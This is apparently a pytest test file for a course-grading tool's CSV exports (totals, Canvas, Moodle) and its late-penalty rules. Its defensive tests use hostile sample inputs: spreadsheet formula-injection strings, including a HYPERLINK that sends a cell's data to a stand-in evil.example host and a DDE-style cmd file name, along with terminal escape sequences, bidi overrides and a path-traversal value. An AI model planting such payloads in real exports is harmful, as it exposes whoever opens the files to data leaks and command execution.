"""Exports parsed back: totals, Canvas, Moodle; the deadline policy; the partial-points rule.

No grading here: the grades are built as the grader builds them, stored in a real
SQLite gradebook and read back, then exported.
"""

from __future__ import annotations

import csv
from datetime import datetime, timedelta, timezone

import pytest

from microgradlab_grader import exports, report, untrusted
from microgradlab_grader.exports import LatePolicy, parse_time
from microgradlab_grader.gradebook import Gradebook, default_url
from microgradlab_grader.grading import Grade, Verdict
from microgradlab_grader.untrusted import UNKNOWN_TIME, Unreadable, csv_cell, parse_timestamp


def verdict(exercise, points, max_points, passed, delivered=True):
    return Verdict(exercise, points, max_points, passed=passed, delivered=delivered)


def class_grades():
    """ann: full marks on 02_value; ben: a timeout after ex04_by_hand passed; cat: missing;
    dan: a grader error; all of them on 02_value and 04_backward."""
    full_02 = {"ex02_value": verdict("ex02_value", 3.0, 3.0, True)}
    grades = [
        Grade("ann", "02_value", "graded", 3.0, verdicts=full_02),
        Grade("ann", "04_backward", "graded", 8.0, verdicts={
            "ex04_by_hand": verdict("ex04_by_hand", 2.0, 2.0, True),
            "ex04_topological_order": verdict("ex04_topological_order", 0.0, 3.0, False),
            "ex04_backward": verdict("ex04_backward", 3.0, 3.0, True)}),
        Grade("ben", "02_value", "graded", 3.0, verdicts=full_02),
        Grade("ben", "04_backward", "timeout", 8.0, detail="a cell ran longer than 4 s", verdicts={
            "ex04_by_hand": verdict("ex04_by_hand", 2.0, 2.0, True),
            # the exercise that hung: nothing came back
            "ex04_topological_order": verdict("ex04_topological_order", 0.0, 3.0, False,
                                              delivered=False),
            "ex04_backward": verdict("ex04_backward", 0.0, 3.0, False, delivered=False)}),
        Grade("cat", "02_value", "missing", 3.0, detail="no notebook handed in"),
        Grade("cat", "04_backward", "missing", 8.0, detail="no notebook handed in"),
        Grade("dan", "02_value", "grader_error", 3.0, detail="RuntimeError: a bug"),
        Grade("dan", "04_backward", "graded", 8.0, verdicts={
            "ex04_by_hand": verdict("ex04_by_hand", 2.0, 2.0, True),
            "ex04_topological_order": verdict("ex04_topological_order", 3.0, 3.0, True),
            "ex04_backward": verdict("ex04_backward", 3.0, 3.0, True)}),
    ]
    return grades


TIMES = {("ann", "02_value"): "2026-12-01 10:00:00.000000 UTC",
         ("ann", "04_backward"): "2026-12-02 09:00:00.000000 UTC",   # 1 started day late
         ("ben", "02_value"): "2026-12-04 12:00:00.000000 UTC",      # 3 started days late
         ("ben", "04_backward"): "2026-12-01T20:00:00+00:00",        # on time (ISO 8601)
         ("dan", "04_backward"): "2026-12-01 23:59:00 UTC"}           # on time
DEADLINE = parse_time("2026-12-01 23:59:59 UTC")


@pytest.fixture()
def stored(tmp_path):
    """The grades written to a gradebook and read back (as every export run does)."""
    book = Gradebook(default_url(tmp_path))
    for g in class_grades():
        book.save(g, "hash", "source", seed=7, timestamp=TIMES.get((g.student, g.notebook)))
    rows = book.rows()
    book.close()
    from microgradlab_grader.gradebook import to_grade
    return [(to_grade(r), r.timestamp) for r in rows.values()]


def read(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_timestamps_are_read_as_nbgrader_writes_them():
    assert parse_time("2026-12-01 10:30:00.123456 UTC") == datetime(
        2026, 12, 1, 10, 30, 0, 123456, tzinfo=timezone.utc)
    assert parse_time("2026-12-01T10:30").tzinfo == timezone.utc
    with pytest.raises(exports.ExportError, match="not a date"):
        parse_time("next tuesday-ish")


def test_late_policy_per_started_day_and_cutoff():
    policy = LatePolicy(DEADLINE, penalty_per_day=10, cutoff_days=3)
    assert LatePolicy().days_late(None) == 0                       # no deadline: never late
    assert policy.days_late("2026-12-01 23:00 UTC") == 0
    assert policy.days_late("2026-12-02 00:00:30 UTC") == 1
    assert policy.days_late("2026-12-03 00:00:30 UTC") == 2
    # 10% of the maximum (8) per day: 8 - 0.8 * 2
    assert policy.apply(8.0, 8.0, "2026-12-03 00:00:30 UTC") == pytest.approx(6.4)
    assert policy.apply(1.0, 8.0, "2026-12-03 00:00:30 UTC") == 0.0        # never below 0
    assert policy.apply(8.0, 8.0, "2026-12-05 01:00 UTC") == 0.0           # past the cut-off
    assert policy.apply(None, 8.0, "2026-12-03 00:00:30 UTC") is None      # an unknown stays unknown
    assert LatePolicy(DEADLINE).apply(8.0, 8.0, "2026-12-09 00:00 UTC") == 8.0   # reported, not punished


def test_partial_points_rule():
    by = {(g.student, g.notebook): g for g in class_grades()}
    assert exports.counted_points(by[("ann", "04_backward")]) == 5.0
    assert exports.counted_points(by[("ben", "04_backward")]) == 2.0   # verified before the hang
    assert exports.counted_points(by[("cat", "02_value")]) == 0.0
    assert exports.counted_points(by[("dan", "02_value")]) is None


def test_totals_csv(stored, tmp_path):
    exports.write_all(stored, LatePolicy(DEADLINE, penalty_per_day=10), tmp_path)
    rows = {r["student"]: r for r in csv.DictReader(open(tmp_path / "totals.csv"))}
    assert list(rows) == ["ann", "ben", "cat", "dan"]
    assert (rows["ann"]["02_value"], rows["ann"]["04_backward"]) == ("3", "4.2")   # 5 - 0.8
    assert rows["ann"]["total"] == "7.2" and rows["ann"]["max_total"] == "11"
    assert rows["ben"]["02_value"] == "2.1"                                      # 3 - 3 * 0.3
    assert rows["ben"]["04_backward"] == "2" and rows["ben"]["total"] == "4.1"
    assert "04_backward: timeout" in rows["ben"]["notes"]
    assert "02_value: 3 day(s) late" in rows["ben"]["notes"]
    assert rows["cat"]["total"] == "0"
    assert rows["dan"]["02_value"] == "" and rows["dan"]["total"] == ""         # needs a look


def test_canvas_csv(stored, tmp_path):
    exports.write_all(stored, LatePolicy(), tmp_path)
    table = read(tmp_path / "canvas.csv")
    header, possible, *students = table
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                      "microgradlab 02_value", "microgradlab 04_backward"]
    assert possible[0] == "Points Possible" and possible[5:] == ["3", "8"]
    by_login = {row[3]: row for row in students}
    assert set(by_login) == {"ann", "ben", "cat", "dan"}
    assert by_login["ann"][5:] == ["3", "5"]
    assert by_login["ben"][5:] == ["3", "2"]
    assert by_login["dan"][5:] == ["", "8"]
    assert all(len(row) == len(header) for row in table)


def test_moodle_csv(stored, tmp_path):
    exports.write_all(stored, LatePolicy(DEADLINE, cutoff_days=2), tmp_path)
    rows = {r["username"]: r for r in csv.DictReader(open(tmp_path / "moodle.csv"))}
    assert list(next(iter(rows.values()))) == ["username", "name", "02_value", "04_backward",
                                               "total"]
    assert rows["ben"]["02_value"] == "0"            # 3 days late, cut-off 2
    assert rows["ann"]["04_backward"] == "5"         # 1 day late, no per-day penalty
    assert rows["ann"]["total"] == "8"
    for row in rows.values():                        # plain numbers Moodle can read
        for key in ("02_value", "04_backward", "total"):
            assert row[key] == "" or float(row[key]) >= 0


def test_report_names_each_mistakes_exercise_and_lists_unrecognised_files(tmp_path):
    from microgradlab_grader import report
    grades = []
    for student, mistake in [("ann", "uses_own_factor"), ("ben", "uses_own_factor"),
                             ("cat", None)]:
        v = verdict("ex04_by_hand", 0.0 if mistake else 2.0, 2.0, passed=mistake is None)
        v.mistake = mistake
        grades.append(Grade(student, "04_backward", "graded", 8.0, verdicts={"ex04_by_hand": v}))
    grades.append(Grade("dan", "04_backward", "symlink", 8.0, detail="a symbolic link, not read"))
    bars = report.mistake_bars(report.summarise(grades, ["04_backward"]))
    assert bars == [("ex04_by_hand: uses_own_factor", 2)]
    assert all(isinstance(n, int) for _, n in bars)
    text = report.write_text_report(grades, ["04_backward"], tmp_path / "report.txt",
                                    unrecognised=["ann/scratch.ipynb", "notes.txt"],
                                    notes=["ben: 04_Backward.ipynb matched by case"])
    assert "dan 04_backward: symlink - a symbolic link, not read" in text
    assert "  ann/scratch.ipynb" in text and "  notes.txt" in text
    assert "matched by case" in text
    report.write_plot(grades, ["04_backward"], tmp_path / "report.png")
    assert (tmp_path / "report.png").stat().st_size > 0


# ------------------------------------------------------------------ learner text is data
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1"]


def formula_cells(path) -> list[str]:
    """Cells a spreadsheet would run: they start a formula and are not plain numbers."""
    bad = []
    for row in read(path):
        for cell in row:
            if cell.lstrip(" ").startswith(untrusted.FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


def hidden_characters(path) -> list[str]:
    """Cells holding a raw control character, line break or bidirectional override."""
    return [cell for row in read(path) for cell in row if untrusted.visible(cell) != cell]


def test_csv_cell_keeps_numbers_and_defuses_formulas():
    assert [csv_cell(x) for x in (-1.5, 3.0, 7, 0.1 + 0.2, None)] == ["-1.5", "3", "7", "0.3", ""]
    for text in FORMULAS:
        assert csv_cell(text).startswith("'"), text
    assert csv_cell("-1.5") == "'-1.5"            # text that looks like a number stays text
    assert csv_cell(True) == "True" and csv_cell(float("-inf")) == "'-inf"
    assert csv_cell("ann\nlee\x1b[31m\u202e") == "ann\\nlee\\x1b[31m\\u202e"
    assert csv_cell("ann lee") == "ann lee" and csv_cell("Ann_Lee~a36e143c") == "Ann_Lee~a36e143c"


def names_attack():
    """Names (as discovery keeps them) that are formulas or carry hidden characters."""
    return {"ann": FORMULAS[0], "ben": "-2+3", "cat": "@SUM(A1)", "dan": "line\nbreak\r\x1b[2J"}


def test_every_export_defuses_learner_names_and_keeps_numbers(stored, tmp_path):
    paths = exports.write_all(stored, LatePolicy(DEADLINE, penalty_per_day=10), tmp_path,
                              names=names_attack())
    # A score below 0 (points a course might take away) must stay a number.
    grades = [g for g, _ in stored] + [Grade("ann", "06_mlp", "graded", 4.0, verdicts={
        "ex06_mlp": verdict("ex06_mlp", -1.5, 4.0, False)})]
    report.write_csv(grades, ["02_value", "04_backward", "06_mlp"], tmp_path / "grades.csv",
                     names=names_attack(), extra={(g.student, g.notebook): {
                         "seed": 7, "timestamp": '=HYPERLINK("x")', "days_late": "unknown"}
                         for g in grades})
    for path in [*paths.values(), tmp_path / "grades.csv"]:
        assert formula_cells(path) == [], path.name
        assert hidden_characters(path) == [], path.name
    totals = {r["student"]: r for r in csv.DictReader(open(tmp_path / "totals.csv"))}
    assert totals["ann"]["name"] == "'" + FORMULAS[0]          # shown, as text
    assert totals["dan"]["name"] == "line\\nbreak\\r\\x1b[2J"
    assert totals["ann"]["total"] == "7.2"                      # numbers stay numbers
    canvas = read(tmp_path / "canvas.csv")
    assert canvas[2][0] == "'" + FORMULAS[0] and canvas[2][3] == "ann"
    graded = {(r["student"], r["notebook"]): r
              for r in csv.DictReader(open(tmp_path / "grades.csv"))}
    assert graded["ann", "06_mlp"]["score"] == "-1.5" == graded["ann", "06_mlp"]["ex06_mlp"]
    assert graded["ann", "02_value"]["timestamp"] == "'=HYPERLINK(\"x\")"
    assert graded["ann", "02_value"]["days_late"] == "unknown"


def test_the_formula_attack_works_without_csv_cell(stored, tmp_path):
    """The control: the same names written by a plain csv.writer start a formula."""
    with open(tmp_path / "plain.csv", "w", newline="") as handle:
        writer = csv.writer(handle)
        for student, name in names_attack().items():
            writer.writerow([student, name, 3])
    assert len(formula_cells(tmp_path / "plain.csv")) == 3
    assert hidden_characters(tmp_path / "plain.csv") != []


def test_learner_timestamps_are_read_strictly():
    assert parse_timestamp("2026-12-01 10:30:00.123456 UTC") == datetime(
        2026, 12, 1, 10, 30, 0, 123456, tzinfo=timezone.utc)
    assert parse_timestamp("2026-12-01 10:30:00.123456+00:00") == parse_timestamp(
        "2026-12-01T10:30:00.123456Z")                            # nbgrader zip_collect, ISO
    assert parse_timestamp("2026-12-01 11:30:00 Europe/Berlin") == parse_timestamp(
        "2026-12-01 10:30:00 UTC")
    assert parse_timestamp("2026-12-01 05:30:00 -0500").hour == 10
    assert untrusted.submission_time("2026-12-01 10:30 UTC") == "2026-12-01T10:30:00+00:00"
    for text in ['=HYPERLINK("http://evil.example")', "next tuesday", "01/12/2026 10:30",
                 "1 Dec 2026 10:30 UTC", "2026-12-01 10:30:00 CEST", "2026-13-01 10:00",
                 "2026-12-01 24:00", "2026-12-01 10:30 +2500", "", "9" * 5000,
                 "2026-12-01 10:30 ../../etc/passwd"]:
        with pytest.raises(Unreadable):
            parse_timestamp(text)
    # The deadline is the instructor's: read leniently.
    assert parse_time("1 Dec 2026 23:59 UTC").day == 1


def unknown_row(timestamp=UNKNOWN_TIME):
    full = {"ex02_value": verdict("ex02_value", 3.0, 3.0, True)}
    return Grade("eve", "02_value", "graded", 3.0, verdicts=full), timestamp


def test_unknown_lateness_is_never_on_time():
    policy = LatePolicy(DEADLINE, penalty_per_day=10)
    assert policy.days_late(None) is None and policy.days_late(UNKNOWN_TIME) is None
    assert policy.days_late("=HYPERLINK(1)") is None             # an old row's raw text too
    assert policy.apply(8.0, 8.0, UNKNOWN_TIME) is None           # no number: you decide
    assert policy.apply(8.0, 8.0, None) is None                   # no timestamp.txt at all
    assert policy.apply(0.0, 8.0, UNKNOWN_TIME) == 0.0            # 0 whatever the lateness
    assert LatePolicy(DEADLINE).apply(8.0, 8.0, UNKNOWN_TIME) == 8.0   # only reported
    assert LatePolicy().apply(8.0, 8.0, UNKNOWN_TIME) == 8.0           # no deadline


@pytest.mark.parametrize("timestamp", [UNKNOWN_TIME, None, '=HYPERLINK("x")'])
def test_unknown_lateness_in_every_export(tmp_path, timestamp):
    zero = Grade("fay", "02_value", "graded", 3.0,
                 verdicts={"ex02_value": verdict("ex02_value", 0.0, 3.0, False)})
    rows = [unknown_row(timestamp=timestamp),
            (Grade("eve", "04_backward", "missing", 8.0), None),        # nothing handed in
            (zero, timestamp)]                                            # 0 points: 0
    exports.write_all(rows, LatePolicy(DEADLINE, penalty_per_day=10, cutoff_days=2), tmp_path)
    totals = {r["student"]: r for r in csv.DictReader(open(tmp_path / "totals.csv"))}
    assert totals["eve"]["02_value"] == "" and totals["eve"]["total"] == ""
    assert totals["eve"]["04_backward"] == "0"
    why = "no timestamp.txt" if timestamp is None else "timestamp.txt is not a time"
    assert totals["eve"]["notes"] == (f"02_value: lateness unknown ({why}): 3 points before any "
                                      "late penalty, not exported: decide by hand; "
                                      "04_backward: missing")
    assert (totals["fay"]["02_value"], totals["fay"]["notes"]) == ("0", "")
    canvas = {row[3]: row for row in read(tmp_path / "canvas.csv")[2:]}
    assert canvas["eve"][5:] == ["", "0"]
    moodle = {r["username"]: r for r in csv.DictReader(open(tmp_path / "moodle.csv"))}
    assert (moodle["eve"]["02_value"], moodle["eve"]["total"]) == ("", "")


def test_the_unreadable_timestamp_attack_works_if_unknown_counts_as_on_time(monkeypatch):
    """The control: take the rule away (an unreadable time counts as on time)
    and the same late row earns full points past the deadline."""
    policy = LatePolicy(DEADLINE, penalty_per_day=10, cutoff_days=2)
    row = [unknown_row()]
    assert exports.entries(row, policy)["eve"]["02_value"].points is None
    monkeypatch.setattr(exports, "submitted_at", lambda text: parse_timestamp(text)
                        if text not in (None, UNKNOWN_TIME) else DEADLINE - timedelta(1))
    assert exports.entries(row, policy)["eve"]["02_value"].points == 3.0


def test_report_lines_show_hidden_characters_as_escapes(tmp_path):
    grades = [Grade("dan", "02_value", "unreadable", 3.0, detail="bad\nline\x1b[2J\u202eevil"),
              Grade("Ann_Lee~a36e143c", "02_value", "missing", 3.0)]
    text = report.write_text_report(
        grades, ["02_value"], tmp_path / "report.txt",
        unrecognised=["ann/=cmd|' /C calc'!A0.ipynb", "ann/new\nline.ipynb"],
        notes=["ann/\x1b]0;pwned\x07: a note"], names={"Ann_Lee~a36e143c": "Ann\u202eLee",
                                                      "dan": "dan"},
        lateness=["dan 02_value: lateness unknown (timestamp.txt is not a time)"])
    assert all(untrusted.visible(line) == line for line in text.splitlines())
    assert "  dan 02_value: unreadable - bad\\nline\\x1b[2J\\u202eevil" in text
    assert "  ann/new\\nline.ipynb" in text and "  ann/\\x1b]0;pwned\\x07: a note" in text
    assert "  Ann_Lee~a36e143c: Ann\\u202eLee" in text
    assert "lateness unknown (timestamp.txt is not a time)" in text
